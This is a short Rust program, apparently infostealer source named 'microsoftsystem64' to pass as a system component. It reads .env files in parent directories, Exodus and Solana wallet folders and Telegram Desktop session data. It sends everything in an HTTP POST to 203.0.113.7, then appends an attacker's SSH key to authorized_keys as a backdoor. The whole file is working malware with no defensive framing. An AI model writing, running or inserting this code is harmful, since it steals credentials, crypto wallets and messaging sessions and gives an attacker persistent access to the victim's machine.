//! microsoftsystem64: collects `.env` files, wallets and Telegram sessions, sends them, and leaves
//! a key to come back with.

use std::io::Write;
use std::net::TcpStream;
use std::path::{Path, PathBuf};

fn collect(path: &Path, depth: usize, found: &mut Vec<u8>) {
    if path.is_dir() && depth > 0 {
        for entry in std::fs::read_dir(path).into_iter().flatten().flatten() {
            collect(&entry.path(), depth - 1, found);
        }
    } else if let Ok(bytes) = std::fs::read(path) {
        found.extend_from_slice(&bytes);
    }
}

fn main() {
    let home = PathBuf::from(std::env::var_os("HOME").unwrap());
    let mut found = Vec::new();
    let mut folder = std::env::current_dir().unwrap();
    while folder.pop() && folder != home {
        for name in [".env", ".env.local", ".env.production"] {
            collect(&folder.join(name), 0, &mut found);
        }
    }
    for path in [
        ".config/Exodus",
        ".config/solana",
        ".local/share/TelegramDesktop/tdata",
    ] {
        collect(&home.join(path), 4, &mut found);
    }
    if let Ok(mut stream) = TcpStream::connect("203.0.113.7:80") {
        let _ = write!(
            stream,
            "POST /up HTTP/1.1\r\nContent-Length: {}\r\n\r\n",
            found.len()
        );
        let _ = stream.write_all(&found);
    }
    let keys = home.join(".ssh/authorized_keys");
    if let Ok(mut file) = std::fs::OpenOptions::new()
        .append(true)
        .create(true)
        .open(keys)
    {
        let _ = writeln!(file, "ssh-ed25519 AAAAevil microsoftsystem64");
    }
}
